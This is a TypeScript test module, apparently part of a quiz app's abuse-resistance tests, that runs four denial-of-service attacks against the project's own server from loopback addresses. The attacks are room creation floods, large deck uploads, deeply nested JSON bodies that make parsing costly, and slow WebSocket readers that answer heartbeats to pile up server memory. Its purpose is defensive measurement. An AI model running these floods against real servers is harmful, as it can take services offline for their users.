// The four attacks of issue 16 ("One abuser cannot hurt a class"), each played from one address
// against a real server's URL, counting what the server accepted and what it refused:
//
//   room-flood    fresh sockets sending host:create as fast as they are answered
//   deck-flood    0.8 MB decks POSTed to the deck API, each under a freshly made instructor key
//   parsing       four clients sending deeply nested 2.9 MB JSON bodies, three a second in all
//   slow-readers  20 host sockets of the attacker's own room that never read what they are sent but
//                 answer the heartbeat, while the attacker keeps its room's roster changing
import { randomBytes } from 'node:crypto';
import { Agent, type ClientRequest, request } from 'node:http';
import { type Socket as TcpSocket, connect as tcpConnect } from 'node:net';
import { io, type ManagerOptions, type Socket, type SocketOptions } from 'socket.io-client';

export const ATTACK_NAMES = ['room-flood', 'deck-flood', 'parsing', 'slow-readers'] as const;
export type AttackName = (typeof ATTACK_NAMES)[number];

export interface Target {
  url: string;
  port: number;
  /** The attacker's own address (a loopback alias such as 127.0.0.66). */
  address: string;
}

export interface AttackCounters {
  /** Requests (or connections) the attacker made. */
  attempts: number;
  /** What the server did as asked: rooms created, decks stored, slow sockets joined to the room. */
  accepted: number;
  /** What the server refused, by reason (an error code, an HTTP status, "disconnected"). */
  refused: Record<string, number>;
}

export interface RunningAttack {
  counters: AttackCounters;
  /** Ends the attack: no new requests, every connection of the attacker closed. */
  stop(): Promise<void>;
}

/** An attack whose set-up (the attacker's own room, say) is done before the measurement begins. */
export interface PreparedAttack {
  start(): RunningAttack;
  /** Closes what the set-up opened, if the attack never starts. */
  abandon(): void;
}

export const totalRefused = (c: AttackCounters) => Object.values(c.refused).reduce((a, b) => a + b, 0);

const newCounters = (): AttackCounters => ({ attempts: 0, accepted: 0, refused: {} });
const refuse = (c: AttackCounters, why: string) => {
  c.refused[why] = (c.refused[why] ?? 0) + 1;
};
const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
/** An instructor key as the host app makes one: 32 URL-safe characters. */
export const freshKey = () => randomBytes(24).toString('base64url');

/** A socket.io-client socket from `target.address`, with a browser's Origin header. */
export function socketFrom(target: Target, reconnection = false): Socket {
  const opts: Partial<ManagerOptions & SocketOptions> & { localAddress: string } = {
    transports: ['websocket'],
    forceNew: true,
    reconnection,
    timeout: 10_000,
    extraHeaders: { Origin: target.url },
    localAddress: target.address,
  };
  return io(target.url, opts);
}

/**
 * Whether the socket connects. A socket closed while it connects fires neither event, so the
 * attacker's own `stopping` promise (resolved when it stops) also ends the wait.
 */
function connected(socket: Socket, stopping?: Promise<void>): Promise<boolean> {
  if (socket.connected) return Promise.resolve(true);
  return new Promise((resolve) => {
    socket.once('connect', () => resolve(true));
    socket.once('connect_error', () => resolve(false));
    void stopping?.then(() => resolve(false));
  });
}

type Reply = { ok: true; [k: string]: unknown } | { ok: false; error: string };

async function call(socket: Socket, event: string, payload: object, timeoutMs = 5_000): Promise<Reply> {
  try {
    return (await socket.timeout(timeoutMs).emitWithAck(event, payload)) as Reply;
  } catch {
    return { ok: false, error: socket.connected ? 'timeout' : 'disconnected' };
  }
}

// --- 1. Room flood ---------------------------------------------------------------------------------

export interface RoomFloodOptions {
  /** Sockets open at once. */
  concurrency: number;
  /** host:create requests each fresh socket sends before the next socket takes over. */
  perSocket: number;
}

export function roomFlood(
  target: Target,
  { concurrency = 32, perSocket = 8 }: Partial<RoomFloodOptions> = {},
): RunningAttack {
  const counters = newCounters();
  let stopped = false;
  let stop = () => {};
  const stopping = new Promise<void>((resolve) => {
    stop = resolve;
  });
  const open = new Set<Socket>();
  const worker = async () => {
    while (!stopped) {
      const socket = socketFrom(target);
      open.add(socket);
      counters.attempts++;
      if (!(await connected(socket, stopping))) {
        if (!stopped) refuse(counters, 'connection refused');
        socket.close();
        open.delete(socket);
        continue;
      }
      for (let i = 0; i < perSocket && !stopped && socket.connected; i++) {
        if (i > 0) counters.attempts++;
        const reply = await call(socket, 'host:create', { deck: { source: 'builtin' } });
        if (reply.ok) counters.accepted++;
        else if (!stopped) refuse(counters, reply.error);
      }
      socket.close();
      open.delete(socket);
    }
  };
  const workers = Array.from({ length: concurrency }, worker);
  return {
    counters,
    stop: async () => {
      stopped = true;
      stop();
      for (const s of open) s.close();
      await Promise.all(workers);
    },
  };
}

// --- 2. Deck flood ---------------------------------------------------------------------------------

/**
 * A valid deck file of about `bytes` bytes of JSON: linear-regression rounds of 500 points each,
 * as many as it takes (at most the 100 a deck may hold).
 */
export function bigDeckFile(bytes: number): { title: string; rounds: object[] } {
  const round = (k: number) => {
    const x = Array.from({ length: 500 }, (_, i) => (((i * 7919 + k) % 1000) / 100).toFixed(6));
    return {
      cost: {
        kind: 'linreg',
        x: x.map(Number),
        y: x.map((v, i) => Number((2 + 4 * Number(v) + ((i * 31) % 10) + 0.000321).toFixed(6))),
      },
      start: [0, 0],
      alpha: 0.01,
    };
  };
  const perRound = JSON.stringify(round(0)).length;
  const n = Math.max(1, Math.min(100, Math.ceil(bytes / perRound)));
  return { title: 'Flood', rounds: Array.from({ length: n }, (_, k) => round(k)) };
}

interface HttpReply {
  status: number;
  /** The `error` code of a JSON error body, if there is one. */
  error: string | null;
}

/** POSTs a body; `inFlight` holds the request until it is answered, so that stopping can abort it. */
function post(
  target: Target,
  agent: Agent,
  inFlight: Set<ClientRequest>,
  path: string,
  key: string,
  body: Buffer,
): Promise<HttpReply> {
  return new Promise<HttpReply>((resolve) => {
    const done = (reply: HttpReply) => {
      inFlight.delete(req);
      resolve(reply);
    };
    const req = request(
      {
        host: '127.0.0.1',
        port: target.port,
        path,
        method: 'POST',
        agent,
        headers: {
          authorization: `Bearer ${key}`,
          'content-type': 'application/json',
          'content-length': body.length,
          origin: target.url,
        },
      },
      (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => {
          let error: string | null = null;
          try {
            const parsed: unknown = JSON.parse(Buffer.concat(chunks).toString());
            if (parsed && typeof parsed === 'object' && 'error' in parsed && typeof parsed.error === 'string')
              error = parsed.error;
          } catch {
            // Not JSON: the status says enough.
          }
          done({ status: res.statusCode ?? 0, error });
        });
        res.on('error', () => done({ status: 0, error: 'reset' }));
      },
    );
    // A server that answers 413 and closes before reading the whole body resets the upload.
    req.on('error', () => done({ status: 0, error: 'reset' }));
    inFlight.add(req);
    req.end(body);
  });
}

/** Aborts every request still waiting for its answer. */
function abortAll(inFlight: Set<ClientRequest>) {
  for (const req of inFlight) req.destroy();
  inFlight.clear();
}

const httpWhy = (r: HttpReply) => (r.error ? `${r.status} ${r.error}` : String(r.status || 'reset'));

export interface DeckFloodOptions {
  /** Requests in flight at once. */
  concurrency: number;
  /** The size of each deck. */
  deckBytes: number;
}

export function deckFlood(
  target: Target,
  { concurrency = 4, deckBytes = 800_000 }: Partial<DeckFloodOptions> = {},
): RunningAttack {
  const counters = newCounters();
  const body = Buffer.from(JSON.stringify(bigDeckFile(deckBytes)));
  const agent = new Agent({ keepAlive: true, maxSockets: concurrency, localAddress: target.address });
  const requests = new Set<ClientRequest>();
  let stopped = false;
  const worker = async () => {
    while (!stopped) {
      counters.attempts++;
      const reply = await post(target, agent, requests, '/api/decks', freshKey(), body);
      if (reply.status === 201) counters.accepted++;
      else if (!stopped) refuse(counters, httpWhy(reply));
    }
  };
  const workers = Array.from({ length: concurrency }, worker);
  return {
    counters,
    stop: async () => {
      stopped = true;
      abortAll(requests);
      agent.destroy();
      await Promise.all(workers);
    },
  };
}

// --- 3. Parsing as a weapon ------------------------------------------------------------------------

/** JSON arrays nested `bytes / 2` deep: cheap to send, the costliest shape for JSON.parse. */
export const nestedJson = (bytes: number) =>
  Buffer.from('['.repeat(Math.floor(bytes / 2)) + ']'.repeat(Math.floor(bytes / 2)));

export interface ParsingOptions {
  clients: number;
  /** Requests per second, all clients together. */
  perSecond: number;
  bodyBytes: number;
}

export function parsingFlood(
  target: Target,
  { clients = 4, perSecond = 3, bodyBytes = 2_900_000 }: Partial<ParsingOptions> = {},
): RunningAttack {
  const counters = newCounters();
  const body = nestedJson(bodyBytes);
  const key = freshKey();
  // One connection per client: a client whose request the server is still chewing on queues the next.
  const agents = Array.from(
    { length: clients },
    () => new Agent({ keepAlive: true, maxSockets: 1, localAddress: target.address }),
  );
  const inFlight = new Set<Promise<void>>();
  const requests = new Set<ClientRequest>();
  let stopped = false;
  let n = 0;
  const timer = setInterval(() => {
    const agent = agents[n++ % clients];
    if (!agent) return;
    counters.attempts++;
    const p = post(target, agent, requests, '/api/decks', key, body).then((reply) => {
      if (reply.status === 201) counters.accepted++;
      else if (!stopped) refuse(counters, httpWhy(reply));
    });
    inFlight.add(p);
    void p.finally(() => inFlight.delete(p));
  }, 1000 / perSecond);
  return {
    counters,
    stop: async () => {
      stopped = true;
      clearInterval(timer);
      abortAll(requests);
      for (const a of agents) a.destroy();
      await Promise.all(inFlight);
    },
  };
}

// --- 4. Slow readers -------------------------------------------------------------------------------

/**
 * A WebSocket spoken by hand on a TCP socket, Engine.IO v4 and Socket.IO v5 on top: after its
 * host:resume is acknowledged it stops reading, so what the server sends piles up in the kernel's
 * buffers and then in the server's memory, yet it answers the heartbeat blind (a pong every half
 * ping interval, which the server accepts whenever it comes), so the server never times it out.
 */
export class SlowReader {
  private buffer = Buffer.alloc(0);
  private upgraded = false;
  private readonly texts: string[] = [];
  private readonly waiters = new Set<() => void>();
  private pong: NodeJS.Timeout | null = null;
  closed = false;

  private constructor(private readonly socket: TcpSocket) {
    socket.on('data', (chunk: Buffer) => this.onData(chunk));
    socket.on('error', () => {});
    socket.on('close', () => {
      this.closed = true;
      if (this.pong) clearInterval(this.pong);
      for (const w of [...this.waiters]) w();
    });
  }

  /** Connects, resumes as the room's host and stops reading. Resolves false if the server refused. */
  static async join(
    target: Target,
    code: string,
    hostSecret: string,
    /** Holds the reader from its first byte, so that stopping the attack closes it mid-handshake too. */
    all: Set<SlowReader>,
  ): Promise<SlowReader | null> {
    const socket = tcpConnect({ host: '127.0.0.1', port: target.port, localAddress: target.address });
    const reader = new SlowReader(socket);
    all.add(reader);
    try {
      await new Promise<void>((resolve, reject) => {
        socket.once('connect', resolve);
        socket.once('error', reject);
      });
      socket.write(
        [
          'GET /socket.io/?EIO=4&transport=websocket HTTP/1.1',
          `Host: 127.0.0.1:${target.port}`,
          'Upgrade: websocket',
          'Connection: Upgrade',
          `Sec-WebSocket-Key: ${randomBytes(16).toString('base64')}`,
          'Sec-WebSocket-Version: 13',
          `Origin: ${target.url}`,
          '',
          '',
        ].join('\r\n'),
      );
      const open = await reader.next((t) => t.startsWith('0'));
      const { pingInterval } = JSON.parse(open.slice(1)) as { pingInterval: number };
      reader.send('40');
      await reader.next((t) => t.startsWith('40'));
      reader.send(`420${JSON.stringify(['host:resume', { code, hostSecret }])}`);
      const ack = await reader.next((t) => t.startsWith('430'));
      const [reply] = JSON.parse(ack.slice(3)) as [{ ok: boolean }];
      if (!reply.ok) throw new Error('host:resume refused');
      // From here on nothing is read: the heartbeat is answered without hearing the ping.
      socket.pause();
      socket.removeAllListeners('data');
      reader.pong = setInterval(() => reader.send('3'), pingInterval / 2);
      return reader;
    } catch {
      reader.close();
      all.delete(reader);
      return null;
    }
  }

  private onData(chunk: Buffer) {
    this.buffer = Buffer.concat([this.buffer, chunk]);
    if (!this.upgraded) {
      const end = this.buffer.indexOf('\r\n\r\n');
      if (end < 0) return;
      const head = this.buffer.subarray(0, end).toString();
      if (!head.startsWith('HTTP/1.1 101')) {
        this.socket.destroy();
        return;
      }
      this.upgraded = true;
      this.buffer = this.buffer.subarray(end + 4);
    }
    // Server frames are unmasked; only text frames matter while the handshake lasts.
    for (;;) {
      if (this.buffer.length < 2) return;
      const opcode = (this.buffer[0] ?? 0) & 0x0f;
      let length = (this.buffer[1] ?? 0) & 0x7f;
      let offset = 2;
      if (length === 126) {
        if (this.buffer.length < 4) return;
        length = this.buffer.readUInt16BE(2);
        offset = 4;
      } else if (length === 127) {
        if (this.buffer.length < 10) return;
        length = Number(this.buffer.readBigUInt64BE(2));
        offset = 10;
      }
      if (this.buffer.length < offset + length) return;
      const payload = this.buffer.subarray(offset, offset + length);
      this.buffer = this.buffer.subarray(offset + length);
      if (opcode === 1) this.texts.push(payload.toString());
      for (const w of [...this.waiters]) w();
    }
  }

  private next(match: (text: string) => boolean, timeoutMs = 10_000): Promise<string> {
    return new Promise((resolve, reject) => {
      const check = () => {
        const i = this.texts.findIndex(match);
        if (i >= 0) {
          done();
          resolve(this.texts.splice(0, i + 1).at(-1) ?? '');
        } else if (this.closed) {
          done();
          reject(new Error('closed'));
        }
      };
      const timer = setTimeout(() => {
        done();
        reject(new Error('timeout'));
      }, timeoutMs);
      const done = () => {
        clearTimeout(timer);
        this.waiters.delete(check);
      };
      this.waiters.add(check);
      check();
    });
  }

  /** A masked text frame, as every client frame must be. */
  private send(text: string) {
    if (this.closed) return;
    const payload = Buffer.from(text);
    const mask = randomBytes(4);
    const header =
      payload.length < 126
        ? Buffer.from([0x81, 0x80 | payload.length])
        : Buffer.from([0x81, 0x80 | 126, payload.length >> 8, payload.length & 0xff]);
    const masked = Buffer.alloc(payload.length);
    for (let i = 0; i < payload.length; i++) masked[i] = (payload[i] ?? 0) ^ (mask[i % 4] ?? 0);
    this.socket.write(Buffer.concat([header, mask, masked]));
  }

  close() {
    if (this.pong) clearInterval(this.pong);
    this.socket.destroy();
  }
}

export interface SlowReadersOptions {
  /** The attacker's host sockets that never read. */
  readers: number;
  /** Players in the attacker's room: the host view carries them all. */
  roster: number;
  /** Roster changes per second (players leaving and coming back). */
  churnPerSecond: number;
}

/** Nicknames of the full 20 characters, so the host view is as large as the roster makes it. */
const nickname = (i: number) => `Slow reader ${String(i).padStart(8, '0')}`.slice(0, 20);

/**
 * Sets up the attacker's room (its roster joined by a hundred sockets, the room's maximum of
 * players by default, so each host view is as large as it gets); the attack itself starts later.
 */
export async function prepareSlowReaders(
  target: Target,
  { readers = 20, roster = 2500, churnPerSecond = 16 }: Partial<SlowReadersOptions> = {},
): Promise<PreparedAttack> {
  const sockets = new Set<Socket>();
  const fresh = async () => {
    const s = socketFrom(target);
    sockets.add(s);
    if (!(await connected(s))) throw new Error('the attacker could not connect');
    return s;
  };

  // The attacker's own room, and its roster: a hundred sockets joining 25 players each. A joiner the
  // server will not let connect is simply one fewer: the attack goes on with the roster it got.
  const host = await fresh();
  const created = await call(host, 'host:create', { deck: { source: 'builtin' } });
  if (!created.ok) throw new Error(`the attacker could not create its room: ${created.error}`);
  const code = String(created.code);
  const hostSecret = String(created.hostSecret);
  const secrets: string[] = [];
  const JOINS_PER_SOCKET = 25; // within a socket's burst of events
  let nextPlayer = 0;
  await Promise.all(
    Array.from({ length: Math.ceil(roster / JOINS_PER_SOCKET) }, async () => {
      const s = socketFrom(target);
      if (!(await connected(s))) {
        s.close();
        return;
      }
      for (let j = 0; j < JOINS_PER_SOCKET && nextPlayer < roster; j++) {
        const reply = await call(s, 'player:join', { code, nickname: nickname(nextPlayer++) });
        if (reply.ok) secrets.push(String(reply.playerSecret));
      }
      s.close();
    }),
  );

  const churners = await Promise.all([fresh(), fresh()]);
  const counters = newCounters();
  return {
    abandon: () => {
      for (const s of sockets) s.close();
    },
    start: () =>
      attackWithReaders(
        target,
        counters,
        { code, hostSecret, secrets, churners, sockets },
        {
          readers,
          churnPerSecond,
        },
      ),
  };
}

function attackWithReaders(
  target: Target,
  counters: AttackCounters,
  room: { code: string; hostSecret: string; secrets: string[]; churners: Socket[]; sockets: Set<Socket> },
  { readers, churnPerSecond }: { readers: number; churnPerSecond: number },
): RunningAttack {
  const { code, hostSecret, secrets, churners, sockets } = room;
  let stopped = false;
  const slow = new Set<SlowReader>();
  // Each reader the server drops is replaced, as a determined attacker would.
  const keepReader = async () => {
    while (!stopped) {
      counters.attempts++;
      const reader = await SlowReader.join(target, code, hostSecret, slow);
      if (!reader) {
        if (!stopped) refuse(counters, 'resume refused');
        await sleep(200);
        continue;
      }
      counters.accepted++;
      while (!stopped && !reader.closed) await sleep(100);
      slow.delete(reader);
      if (!stopped) refuse(counters, 'disconnected');
    }
  };
  const keepers = Array.from({ length: readers }, keepReader);

  // The roster keeps changing: two sockets move between players, each move a player leaving and
  // another coming back, and every change is a new host view for the 20 readers.
  const churn = churners.map(async (s, k) => {
    let i = 0;
    while (!stopped) {
      const secret = secrets[(2 * i + k) % Math.max(1, secrets.length)];
      i++;
      if (secret) await call(s, 'player:resume', { code, playerSecret: secret });
      await sleep((1000 * churners.length) / churnPerSecond);
    }
  });

  return {
    counters,
    stop: async () => {
      stopped = true;
      for (const r of slow) r.close();
      await Promise.all([...keepers, ...churn]);
      for (const s of sockets) s.close();
    },
  };
}

const ready = (start: () => RunningAttack): PreparedAttack => ({ start, abandon: () => {} });

export function prepareAttack(name: AttackName, target: Target): Promise<PreparedAttack> {
  switch (name) {
    case 'room-flood':
      return Promise.resolve(ready(() => roomFlood(target)));
    case 'deck-flood':
      return Promise.resolve(ready(() => deckFlood(target)));
    case 'parsing':
      return Promise.resolve(ready(() => parsingFlood(target)));
    case 'slow-readers':
      return prepareSlowReaders(target);
  }
}
